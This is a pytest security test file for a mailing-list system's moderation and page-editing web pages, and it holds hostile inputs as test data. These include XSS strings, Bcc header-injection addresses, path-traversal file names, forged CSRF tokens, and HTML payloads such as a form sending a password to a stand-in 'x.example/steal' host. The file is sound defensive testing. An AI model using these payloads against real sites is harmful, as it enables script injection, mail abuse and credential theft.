"""Attacks on the moderators' pages and on page editing, named after what was tried."""

from html.parser import HTMLParser
from urllib.parse import quote_plus

import pytest

from mailman.constants import Role
from mailman.lists import MailList
from mailman.lists.requests import Requests
from mailman.mail.message import Message
from mailman.web import sessions, tokens
from mailman.web.request import Request
from mailman.web.sessions import Login

PAGE = 'admindb/test'
XSS = '"><svg/onload=x()>\'</title></textarea><script>x()</script>&#x3c;img src=x>'


class Finder(HTMLParser):
    """Collects what a browser would run."""

    def __init__(self, page):
        super().__init__()
        self.found = []
        self.feed(page)

    def handle_starttag(self, tag, attrs):
        values = dict(attrs)
        ours = tag == 'script' and '/assets/script.' in str(values.get('src'))
        if tag in ('script', 'svg', 'img', 'iframe') and not ours:
            self.found.append(tag)
        self.found += [name for name, _value in attrs if name.startswith('on')]
        href = str(values.get('href') or '').strip().lower()
        self.found += [href] if href.startswith('javascript:') else []


def hold(mlist, text, reason='why'):
    with mlist.lock():
        number = Requests(mlist).hold_message(Message.from_string(text), reason, {})
        mlist.save_changes()
    return number


def waiting(mlist):
    return list(Requests(mlist).all())


def logged_in(browser, mlist, role=Role.LIST_ADMIN, session='a' * 16):
    login = Login(role, session=session)
    request = Request(mlist.site, {}, 'admindb')
    browser._take(sessions.set_cookie(request, mlist, login))
    return login


def token(mlist, login, program='admindb'):
    return tokens.make(Request(mlist.site, {}, program), mlist, login)


@pytest.fixture
def moderator(browser, mlist):
    logged_in(browser, mlist)
    return browser


# --- script in what waits (SECURITY 2.1) ------------------------------------------


@pytest.mark.parametrize('query', ['', '?details=all', '?msgid=1', '?sort=subject'])
def test_script_in_every_header_and_the_body_stays_text(moderator, mlist, query):
    names = ('From', 'To', 'Cc', 'Subject', 'Date', 'Message-ID', 'X-Any', 'Sender')
    head = ''.join(f'{name}: {XSS}\n' for name in names)
    hold(mlist, f'{head}\n{XSS}\n', reason=XSS)
    answer = moderator.get(PAGE + query)
    assert answer.status == 200
    assert 'svg/onload' in answer.text
    assert Finder(answer.text).found == []


def test_script_in_an_html_post_and_in_names_of_files_stays_text(moderator, mlist):
    head = 'From: a@x.example\nMIME-Version: 1.0\n'
    kind = 'Content-Type: multipart/mixed; boundary=b\n\n'
    html = f'--b\nContent-Type: text/html\n\n<b>Hi</b>{XSS}\n'
    name = XSS.replace('"', "'")
    file = f'--b\nContent-Type: image/svg+xml; name="{name}"\n\n<svg/>\n--b--\n'
    hold(mlist, head + kind + html + file)
    assert Finder(moderator.get(f'{PAGE}?msgid=1').text).found == []


def test_script_in_the_name_of_a_newcomer_stays_text(moderator, mlist):
    with mlist.lock():
        Requests(mlist).hold_subscription('a@x.example', name=XSS)
        mlist.save_changes()
    answer = moderator.get(PAGE)
    assert 'svg/onload' in answer.text
    assert Finder(answer.text).found == []


@pytest.mark.parametrize('name', ['find', 'who', 'sort', 'page', 'msgid', 'sender'])
def test_script_in_the_address_stays_text(moderator, mlist, name):
    hold(mlist, 'From: a@x.example\n\nx\n')
    answer = moderator.get(f'{PAGE}?{name}={quote_plus(XSS)}')
    assert answer.status == 200
    assert Finder(answer.text).found == []


def test_script_typed_into_a_form_with_an_error_stays_text(moderator, mlist):
    hold(mlist, 'From: a@x.example\n\nx\n')
    fields = {'headers-1': XSS, 'comment-1': XSS, 'forward-1': 'on'}
    fields |= {'forward-addr-1': XSS, 'csrf_token': moderator.get(PAGE).token()}
    answer = moderator.post(PAGE, fields)
    assert 'svg/onload' in answer.text
    assert Finder(answer.text).found == []


@pytest.mark.parametrize(
    'text',
    [
        'From: \udcff\udcfe@x.example\nSubject: \udce4\udcff\n\n\udcff\n',
        'From: \0\x1b[2J@x.example\nSubject: \x1b]0;x\x07\n\n\x1b[31m\0\n',
        '\n',
        'Content-Type: multipart/mixed; boundary=b\n\n--b\n--b\n--b--\n',
        'Content-Type: text/plain; charset=no-such\n\n\udcff\n',
        'Content-Type: text/html\nContent-Transfer-Encoding: base64\n\n!!!\n',
        'Subject: =?utf-8?b?' + 'A' * 5000 + '?=\nDate: ' + '9' * 900 + '\n\nx\n',
    ],
)
def test_no_bytes_break_the_pages(moderator, mlist, text):
    number = hold(mlist, text)
    for query in ('', '?details=all', f'?msgid={number}'):
        assert moderator.get(PAGE + query).status == 200
    fields = {'bulk:id': number, 'bulk:action': '3'}
    fields['csrf_token'] = moderator.get(PAGE).token()
    moderator.post(PAGE, fields)
    assert waiting(mlist) == []


# --- headers of copies (2.1.39 wrote what was typed) --------------------------------


@pytest.mark.parametrize(
    'address',
    [
        'boss@x.example\nBcc: all@x.example',
        'boss@x.example\r\nBcc: all@x.example',
        'boss@x.example,\nall@x.example',
        'boss@x.example\0',
        '<boss@x.example> all@x.example',
        'boss',
        '',
        '@',
    ],
)
@pytest.mark.parametrize('kind', ['one', 'all'])
def test_a_forward_address_adds_no_header(moderator, mlist, address, kind):
    hold(mlist, 'From: a@x.example\n\nx\n')
    sender = quote_plus('a@x.example')
    fields = {'1': '3', 'forward-1': 'on', 'forward-addr-1': address}
    if kind == 'all':
        fields = {f'senderaction-{sender}': '3', sender: '1'}
        fields[f'senderforward-{sender}'] = '1'
        fields[f'senderforwardto-{sender}'] = address
    fields['csrf_token'] = moderator.get(PAGE).token()
    answer = moderator.post(PAGE, fields)
    if '\0' in address:  # no form has one
        return
    assert answer.status == 200
    assert waiting(mlist) == [1]
    assert mlist.queue('virgin').messages == []


# --- names of senders that look like other fields -----------------------------------


@pytest.mark.parametrize(
    'name', ['2', 'adminpw', 'csrf_token', 'ban-2', 'senderaction-b']
)
def test_a_sender_called_like_a_field_decides_nothing(moderator, mlist, name):
    hold(mlist, 'From: a@x.example\n\nx\n')
    hold(mlist, 'From: b@x.example\n\nx\n')
    hold(mlist, f'From: {name}\nSender: {name}\n\nx\n')
    page = moderator.get(PAGE)
    assert page.status == 200
    assert page.text.count(f'name="{name}"') <= (2 if name == 'csrf_token' else 0)


def test_a_sender_of_several_lines_gets_into_no_setting(moderator, mlist):
    hold(mlist, 'From: a@x.example\n\nx\n')
    name = quote_plus('a@x.example\n^.*')
    fields = {f'senderbanp-{name}': '1', f'senderfilterp-{name}': '1'}
    fields |= {f'senderfilter-{name}': '6', 'csrf_token': moderator.get(PAGE).token()}
    moderator.post(PAGE, fields)
    mlist.refresh()
    assert mlist.ban_list == []
    assert mlist.accept_these_nonmembers == []


# --- forms sent by other sites (CVE-2016-6893, CVE-2021-44227) -----------------------

OTHER = 'b' * 16


def good_and_bad_tokens(mlist):
    site = mlist.site
    other = MailList.create(site, 'other', 'owner@example.com', 'otherpw')
    login = Login(Role.LIST_ADMIN, session='a' * 16)
    now = site.now()
    site.now = lambda: now - float(site.cfg.FORM_LIFETIME) - 1
    stale = token(mlist, login)
    site.now = lambda: now + 100
    early = token(mlist, login)
    site.now = lambda: now
    return {
        'none': None,
        'empty': '',
        'nonsense': 'x.y',
        'stale': stale,
        'of the future': early,
        'of another list': token(other, login),
        'of another page': token(mlist, login, 'admin'),
        'of a moderator': token(mlist, Login(Role.LIST_MODERATOR, session='a' * 16)),
        'of a member': token(mlist, Login(Role.USER, 'a@x.example', 'a' * 16)),
        'of another log-in': token(mlist, Login(Role.LIST_ADMIN, session=OTHER)),
    }


def test_a_form_with_a_bad_token_changes_nothing(moderator, mlist):
    hold(mlist, 'From: a@x.example\n\nx\n')
    sender = quote_plus('a@x.example')
    fields = {'1': '3', 'bulk:id': '1', 'bulk:action': '3', 'ban-1': '1', sender: '1'}
    fields |= {f'senderaction-{sender}': '3', f'senderbanp-{sender}': '1'}
    for kind, value in good_and_bad_tokens(mlist).items():
        sent = fields if value is None else fields | {'csrf_token': value}
        answer = moderator.post(PAGE, sent)
        assert answer.status == 200, kind
        assert 'Nothing was changed' in answer.text, kind
        mlist.refresh()
        assert waiting(mlist) == [1], kind
        assert mlist.ban_list == [], kind


def test_a_link_decides_nothing(moderator, mlist):
    hold(mlist, 'From: a@x.example\n\nx\n')
    form = moderator.get(PAGE).token()
    query = f'1=3&bulk:id=1&bulk:action=3&csrf_token={form}'
    answer = moderator.get(f'{PAGE}?{query}')
    assert waiting(mlist) == [1]
    assert 'name="bulk:id" value="1" aria-label' in answer.text
    assert 'checked' not in answer.text.partition('<h2>The same')[0]


def test_without_a_log_in_a_good_form_decides_nothing(browser, mlist):
    hold(mlist, 'From: a@x.example\n\nx\n')
    form = token(mlist, Login(Role.LIST_ADMIN, session='a' * 16))
    answer = browser.post(PAGE, {'1': '3', 'csrf_token': form})
    assert 'name="adminpw"' in answer.text
    assert waiting(mlist) == [1]


def test_a_wrong_password_along_with_a_good_log_in_decides_nothing(moderator, mlist):
    hold(mlist, 'From: a@x.example\n\nx\n')
    form = moderator.get(PAGE).token()
    sent = {'1': '3', 'csrf_token': form, 'adminpw': 'guess'}
    assert moderator.post(PAGE, sent).status == 401
    assert waiting(mlist) == [1]


def test_a_members_log_in_opens_no_moderation(browser, mlist):
    mlist.add_member('a@x.example')
    mlist.save()
    request = Request(mlist.site, {}, 'admindb')
    login = Login(Role.USER, 'a@x.example')
    browser._take(sessions.set_cookie(request, mlist, login))
    assert 'name="adminpw"' in browser.get(PAGE).text


# --- editing pages ------------------------------------------------------------------

TEXT = 'edithtml/test/listinfo.html'


def test_an_edited_page_with_a_bad_token_is_not_saved(moderator, mlist):
    for kind, value in good_and_bad_tokens(mlist).items():
        for button in ('submit', 'drop', 'drop-really', 'preview'):
            sent = {'html_code': '<p>mine</p>', button: '1'}
            if value is not None:
                sent['csrf_token'] = value
            answer = moderator.post(TEXT, sent)
            assert 'Nothing was changed' in answer.text, kind
            assert not (mlist.directory / 'en').exists(), kind


def test_a_moderators_log_in_edits_no_page(browser, mlist):
    logged_in(browser, mlist, Role.LIST_MODERATOR)
    for page in ('edithtml/test', TEXT):
        assert 'name="adminpw"' in browser.get(page).text


@pytest.mark.parametrize(
    'name',
    [
        '../config.pck',
        '..%2Fconfig.pck',
        '%2e%2e/config.pck',
        'listinfo.html/../../config.pck',
        'listinfo.html%00.txt',
        'config.pck',
        'en/listinfo.html',
        'LISTINFO.HTML',
    ],
)
def test_a_path_for_the_name_of_a_text_reads_and_writes_nothing(moderator, mlist, name):
    before = sorted(mlist.directory.rglob('*'))
    form = moderator.get(TEXT).token()
    answer = moderator.post(
        f'edithtml/test/{name}',
        {'html_code': 'mine', 'csrf_token': form, 'submit': '1'},
    )
    assert answer.status in (200, 404)
    assert 'no such text' in answer.text or 'name="html_code"' not in answer.text
    assert sorted(mlist.directory.rglob('*')) == before


@pytest.mark.parametrize('language', ['../en', 'xx', '/etc', 'de/../../..', ''])
def test_a_path_for_the_language_writes_to_the_lists_own(moderator, mlist, language):
    form = moderator.get(TEXT).token()
    sent = {'html_code': '<p>mine</p>', 'csrf_token': form, 'submit': '1'}
    moderator.post(TEXT, sent | {'language': language})
    assert [p.name for p in mlist.directory.iterdir() if p.is_dir()] == ['en']


def test_a_folder_that_is_a_link_is_not_written_to(moderator, mlist, tmp_path):
    (mlist.directory / 'en').symlink_to(tmp_path)
    form = moderator.get(TEXT).token()
    sent = {'html_code': '<p>mine</p>', 'csrf_token': form, 'submit': '1'}
    assert moderator.post(TEXT, sent).status == 500
    assert not (tmp_path / 'listinfo.html').exists()


@pytest.mark.parametrize(
    'code',
    [
        '<script>x()</script>',
        '<ScRiPt src=//x.example/x></ScRiPt>',
        '<img src=x onerror=x()>',
        '<a href="java&#x0A;script:x()">a</a>',
        '<a href=" javascript:x()">a</a>',
        '<iframe src="//x.example"></iframe>',
        '<svg/onload=x()>',
        '<object data=x></object>',
        '<meta http-equiv=refresh content="0;url=//x.example">',
        '<form action="https://x.example/steal"><input name=pw></form>',
        '<base href="//x.example/">',
        '<a href="data:text/html,<script>x()</script>">a</a>',
    ],
)
def test_what_could_run_is_refused_and_explained(moderator, mlist, code):
    form = moderator.get(TEXT).token()
    answer = moderator.post(
        TEXT, {'html_code': f'<p>mine</p>{code}', 'csrf_token': form, 'submit': '1'}
    )
    assert answer.status == 200
    assert 'Not saved' in answer.text
    assert not (mlist.directory / 'en').exists()
    assert '&lt;p&gt;mine' in answer.text
    assert Finder(answer.text).found == []


def test_a_preview_runs_nothing(moderator, mlist):
    form = moderator.get(TEXT).token()
    code = f'<p>mine</p>{XSS}<img src="javascript:x()">'
    answer = moderator.post(
        TEXT, {'html_code': code, 'csrf_token': form, 'preview': '1'}
    )
    assert '<p>mine</p>' in answer.text
    assert Finder(answer.text).found in ([], ['img'], ['img', 'img'])


def test_script_in_a_log_in_form_of_owners_is_not_shown(browser, mlist):
    (mlist.directory / 'en').mkdir()
    text = f'<form action="%(path)s"><input name=adminpw></form>%(listname)s{XSS}'
    (mlist.directory / 'en' / 'admlogin.html').write_text(text)
    answer = browser.get(f'{PAGE}?x={quote_plus(XSS)}')
    assert 'name="adminpw"' in answer.text
    assert 'onload' not in answer.text.replace(quote_plus(XSS), '')
    assert 'script' not in Finder(answer.text).found
